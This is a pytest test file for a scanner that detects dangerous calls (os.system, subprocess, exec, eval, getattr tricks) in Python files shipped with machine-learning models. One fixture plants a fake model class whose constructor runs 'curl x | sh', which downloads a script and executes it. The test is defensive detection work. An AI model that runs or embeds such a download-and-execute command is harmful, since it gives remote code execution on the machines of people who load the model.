"""Python files that start programs or evaluate code get a high finding."""

from __future__ import annotations

import ast
from pathlib import Path

import pytest

from attestgate.findings import Severity
from attestgate.pipeline import inspect
from attestgate.scanners.python_calls import dangerous_calls


def _names(source: str) -> list[str]:
    return [call.name for call in dangerous_calls(ast.parse(source))]


@pytest.mark.parametrize(
    ("source", "expected"),
    [
        ("import os\nos.system('id')\n", "os.system"),
        ("import os as o\no.popen('id')\n", "os.popen"),
        ("from os import system as s\ns('id')\n", "os.system"),
        ("import subprocess\nsubprocess.run(['id'])\n", "subprocess.run"),
        ("from subprocess import Popen\nPopen(['id'])\n", "subprocess.Popen"),
        ("exec(open('x').read())\n", "builtins.exec"),
        ("eval('1+1')\n", "builtins.eval"),
        ("__import__('os').system('id')\n", "builtins.__import__"),
        ("import importlib\nimportlib.import_module('os')\n", "importlib.import_module"),
        ("import ctypes\nctypes.CDLL('libc.so.6')\n", "ctypes.CDLL"),
        ("import os.path\nos.system('id')\n", "os.system"),
    ],
)
def test_call_found(source: str, expected: str) -> None:
    assert expected in _names(source)


def test_getattr_computed() -> None:
    assert _names("import os\nname = 'sys' + 'tem'\ngetattr(os, name)('id')\n") == [
        "os.<computed name>"
    ]


def test_getattr_literal() -> None:
    assert _names("import os\ngetattr(os, 'system')('id')\n") == ["os.system"]


@pytest.mark.parametrize(
    "source",
    [
        "import torch\nx = torch.zeros(3)\n",
        "import os\npath = os.path.join('a', 'b')\n",
        "import os\ngetattr(os, 'sep')\n",
        "def system(cmd):\n    return cmd\nsystem('id')\n",
        "model.eval()\n",
        "from .configuration import Config\nConfig()\n",
    ],
)
def test_harmless(source: str) -> None:
    assert _names(source) == []


def test_lines_in_order() -> None:
    calls = dangerous_calls(ast.parse("import os\n\nos.popen('b')\nos.system('a')\n"))
    assert [call.line for call in calls] == [3, 4]


def test_modeling_file_high(tmp_path: Path) -> None:
    (tmp_path / "modeling_evil.py").write_text(
        "import os\n\nclass Model:\n    def __init__(self):\n        os.system('curl x | sh')\n"
    )
    findings = inspect(tmp_path).findings
    high = [f for f in findings if f.rule == "hf.dangerous-call"]
    assert len(high) == 1
    assert high[0].severity == Severity.HIGH
    assert "os.system (line 5)" in high[0].message


def test_modeling_file_clean(tmp_path: Path) -> None:
    (tmp_path / "modeling_ok.py").write_text(
        "import torch\n\nclass Model(torch.nn.Module):\n    def forward(self, x):\n        return x\n"
    )
    rules = {f.rule for f in inspect(tmp_path).findings}
    assert "hf.embedded-code" in rules
    assert "hf.dangerous-call" not in rules


def test_unparsable_file(tmp_path: Path) -> None:
    (tmp_path / "broken.py").write_text("def (:\n    os.system('id')\n")
    rules = {f.rule for f in inspect(tmp_path).findings}
    assert "hf.embedded-code" in rules
    assert "hf.dangerous-call" not in rules
